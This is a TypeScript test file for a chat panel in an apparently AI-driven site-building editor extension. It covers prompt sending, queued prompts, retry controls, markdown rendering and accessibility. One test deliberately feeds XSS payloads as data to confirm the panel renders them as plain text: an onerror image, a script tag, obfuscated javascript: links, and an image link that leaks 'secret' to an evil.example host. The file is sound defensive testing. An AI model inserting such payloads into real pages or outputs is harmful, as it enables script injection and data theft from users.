import { sent } from './page';
import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import type { Action } from '../../src/conversation/actions';
import type { FromPanel } from '../../src/conversation/messages';
import { reduce } from '../../src/conversation/reduce';
import { initialState, words, type ConversationState } from '../../src/conversation/state';
import type { TurnEvent } from '../../src/protocol/generated';
import { PanelView } from '../../webview/panel/panelView';
import { event, review, site } from '../examples';

let panel: PanelView;
let state: ConversationState;

const happen = (...actions: Action[]) => {
  state = actions.reduce(reduce, state);
  panel.update(state);
};
const events = (...list: TurnEvent[]) => happen(...list.map((each): Action => ({ type: 'turn.event', event: each })));
const box = () => document.querySelector('textarea') as HTMLTextAreaElement;
const type = (text: string) => {
  box().value = text;
  box().dispatchEvent(new window.Event('input'));
};
const press = (key: string) => box().dispatchEvent(new window.KeyboardEvent('keydown', { key, cancelable: true }));
const told = <T extends FromPanel['type']>(kind: T) =>
  sent.filter((message): message is FromPanel & { type: T } => message.type === kind);
const click = (name: string) => {
  const button = [...document.querySelectorAll('button')].find(
    (each) => each.textContent === name || each.getAttribute('aria-label') === name,
  );
  assert.ok(button, `a button ${name}`);
  button.click();
};
const began = (prompt = 'Make it blue') =>
  event(1, { kind: 'started', site: '/a', sessionId: 's', prompt, model: 'openai:x', isReplay: false });
const ended = (sequence: number, outcome: 'failed' | 'cancelled' | 'nothingChanged') =>
  event(sequence, { kind: 'finished', outcome, message: 'So it ended.', reviewId: null, commits: [], error: null });

beforeEach(() => {
  document.body.replaceChildren();
  sent.length = 0;
  panel = new PanelView(document.body);
  state = {
    ...initialState,
    isKnown: true,
    server: { phase: 'ready', message: '', nextStep: null, detail: null, actions: [] },
    site: site('/a'),
    model: { current: 'openai:x', title: 'x', editorHasModels: false },
  };
  panel.update(state);
});

test('What was sent stays in the box until the extension says that it left it', () => {
  type('Make it blue');
  press('Enter');
  assert.deepEqual(told('send'), [{ type: 'send', prompt: 'Make it blue' }]);
  assert.equal(box().value, 'Make it blue');
  press('Enter');
  assert.equal(told('send').length, 1, 'it is not sent twice');
  panel.prompt.handled();
  assert.equal(box().value, 'Make it blue', 'it failed: the words are still there');
  panel.prompt.show({ text: '', aside: [] }, { replaces: true, focus: false });
  assert.equal(box().value, '');
  type('The next');
  panel.prompt.show({ text: 'The ne', aside: [] }, { replaces: false, focus: true });
  assert.equal(box().value, 'The next', 'what is typed is not overtaken by what the extension had seen of it');
});

test('Each thing that is typed is told to the extension, which keeps it', () => {
  type('M');
  type('Ma');
  assert.deepEqual(
    told('typed').map(({ text }) => text),
    ['M', 'Ma'],
  );
});

test('While a question is open, the box answers it', () => {
  events(began(), event(2, { kind: 'question.asked', questionId: 'q', question: 'Which?', options: [] }));
  type('The red one');
  press('Enter');
  assert.deepEqual(told('answer'), [{ type: 'answer', turnId: 't', questionId: 'q', answer: 'The red one' }]);
  assert.deepEqual(told('send'), []);
});

test('Up in an empty box brings back what was asked, and leaves one’s own text alone', () => {
  events(began(), ended(2, 'nothingChanged'));
  press('ArrowUp');
  assert.equal(box().value, 'Make it blue');
  press('ArrowDown');
  assert.equal(box().value, '');
  type('My own');
  press('ArrowUp');
  assert.equal(box().value, 'My own');
});

test('A failed turn has Retry and Edit and Resend, one that had begun Continue as well', () => {
  events(began(), ended(2, 'failed'));
  click('Retry');
  click('Edit and Resend');
  assert.deepEqual(
    told('again').map(({ how }) => how),
    ['retry', 'edit'],
  );
  happen({ type: 'cleared' });
  events(
    began(),
    event(2, { kind: 'tool.started', step: 1, callId: 'c', tool: 'read_file', summary: 'Read' }),
    ended(3, 'cancelled'),
  );
  click('Continue');
  assert.equal(told('again').at(-1)?.how, 'continue');
});

test('Prompts that wait can be sent now, edited and removed', () => {
  events(began());
  happen({ type: 'queue', queue: [{ id: 'a', asked: words('And green') }] });
  click('End what runs, and send “And green” now');
  click('Edit “And green”');
  click('Remove “And green”');
  assert.deepEqual(
    told('queued').map(({ what }) => what),
    ['send', 'edit', 'remove'],
  );
});

test('Without a model a way to one is offered above the words, which stay', () => {
  happen({ type: 'model', model: { current: null, title: 'No model', editorHasModels: false } });
  type('A page for my dog-walking business');
  press('Enter');
  happen({ type: 'modelWanted' });
  panel.prompt.handled();
  assert.match(document.querySelector('.offer')?.textContent ?? '', /no model is set up/);
  assert.equal(box().value, 'A page for my dog-walking business');
  click('Use an API Key');
  assert.equal(told('command').at(-1)?.command, 'builder.setApiKey');
  happen({ type: 'model', model: { current: 'openai:x', title: 'x', editorHasModels: false } });
  assert.equal(document.querySelector('.offer')?.textContent, '');
});

const says = (text: string) => {
  events(began(), event(2, { kind: 'text.delta', step: 1, text }));
  const prose = document.querySelector('.prose');
  assert.ok(prose);
  return prose;
};

test('Tables, task lists, nested lists and code are shown as what they are', () => {
  const prose = says(
    '# Plan\n\n- [x] done\n- [ ] open\n  1. first\n  2. second\n\n| a | b |\n|---|--:|\n| 1 | **2** |\n\n```ts\nconst x = 1 < 2;\n```\n\n> quoted ~~not~~ &amp; &hellip; &nope; `c &amp;`',
  );
  assert.equal(prose.querySelector('h3')?.textContent, 'Plan');
  assert.deepEqual(
    [...prose.querySelectorAll('.task-box')].map((each) => each.getAttribute('aria-label')),
    ['Done:', 'To do:'],
  );
  assert.deepEqual(
    [...prose.querySelectorAll('li ol > li')].map((each) => each.textContent),
    ['first', 'second'],
  );
  assert.equal(prose.querySelector('td strong')?.textContent, '2');
  assert.equal(prose.querySelector('pre code')?.textContent, 'const x = 1 < 2;');
  assert.equal(prose.querySelector('blockquote')?.textContent, 'quoted not & … &nope; c &amp;');
  click('Copy this code');
  assert.deepEqual(told('copy'), [{ type: 'copy', text: 'const x = 1 < 2;' }]);
});

test('Markup, pictures and hostile links of a model stay text; other links ask the extension', () => {
  const hostile =
    '<img src=x onerror=alert(1)> <script>alert(1)</script>\n\n<div onclick="x()">block</div>\n\n![p](https://evil.example/?q=secret) [a](javascript:alert(1)) [e](java&#115;cript:alert(1)) [b](command:evil) [c](https://example.org/x?a=1&amp;b=2) [d](src/App.tsx:3)';
  const prose = says(hostile);
  assert.deepEqual([...prose.querySelectorAll('img, script, a, iframe, [onclick], [onerror], [href], [src]')], []);
  assert.match(prose.textContent, /<script>alert\(1\)<\/script>/);
  for (const link of prose.querySelectorAll('button')) link.click();
  assert.deepEqual(
    told('openLink').map(({ href }) => href),
    ['https://evil.example/?q=secret', 'https://example.org/x?a=1&b=2', 'src/App.tsx:3'],
  );
});

test('Any beginning of a text can be shown, as it streams', () => {
  const text = '# H\n**b** `c`\n- [ ] i\n  - j\n\n|a|b|\n|-|-|\n|1|2|\n```x\ny\n```\n[l](https://e.example) &amp; <b>';
  for (let end = 0; end <= text.length; end++) {
    happen({ type: 'cleared' });
    events(began(), event(2, { kind: 'text.delta', step: 1, text: text.slice(0, end) }));
  }
});

test('One part alone is read out by itself; the conversation has landmarks and headings', () => {
  events(began(), event(2, { kind: 'text.delta', step: 1, text: 'Hello' }));
  events(ended(3, 'failed'));
  const live = [...document.querySelectorAll('[aria-live], [role=log], [role=status], [role=alert]')];
  assert.deepEqual(
    live.map((each) => each.textContent),
    ['Hello So it ended.'],
  );
  assert.deepEqual(
    [...document.querySelectorAll('h1, h2')].map((each) => each.textContent),
    ['a', 'Make it blue'],
  );
  for (const landmark of ['header', 'main', 'form[aria-label]']) assert.ok(document.querySelector(landmark), landmark);
});

test('Until it is known what there is, nothing is called empty', () => {
  panel.update({ ...state, isKnown: false });
  assert.ok(document.querySelector('.skeleton'));
  assert.equal(document.querySelector('.empty'), null);
  happen({ type: 'known' });
  assert.equal(document.querySelector('.skeleton'), null);
  assert.ok(document.querySelector('.empty'));
});

test('What was proved is a line, and its pictures are asked for once it is opened', () => {
  const page = (width: number, picture: string | null) => ({
    route: '/',
    title: 'Home',
    width,
    scheme: 'light',
    isReturningVisitor: false,
    problems: 0,
    durationMilliseconds: 300,
    picture,
  });
  const proof = {
    summary: { headline: '1 page works', isWell: true },
    message: 'It builds, and its page works.',
    browser: 'Chrome/140',
    pages: [page(1280, 'a'), page(375, null)],
    pagesLeft: 0,
    whyNotSeen: null,
    flows: [],
    flowsLeft: 0,
    whyNotTried: null,
    findings: [],
    findingsLeft: 0,
    durationMilliseconds: 600,
  };
  happen({ type: 'review', review: { ...review(1), proof } });
  const shown = document.querySelector<HTMLDetailsElement>('.review .proof');
  assert.ok(shown);
  assert.equal(shown.querySelector('summary')?.textContent, '1 page works');
  assert.deepEqual(told('picture'), []);

  shown.open = true;
  shown.dispatchEvent(new window.Event('toggle'));
  assert.deepEqual(told('picture'), [{ type: 'picture', picture: 'a' }]);
  panel.showPicture('a', 'data:image/webp;base64,AAAA');
  assert.equal(shown.querySelectorAll('img').length, 1);
  assert.equal(shown.querySelector('img')?.alt, '/ in a window of 1280 pixels');

  // Nothing is claimed where nothing is known.
  happen({ type: 'review', review: review(1) });
  assert.equal(shown.hidden, true);
});
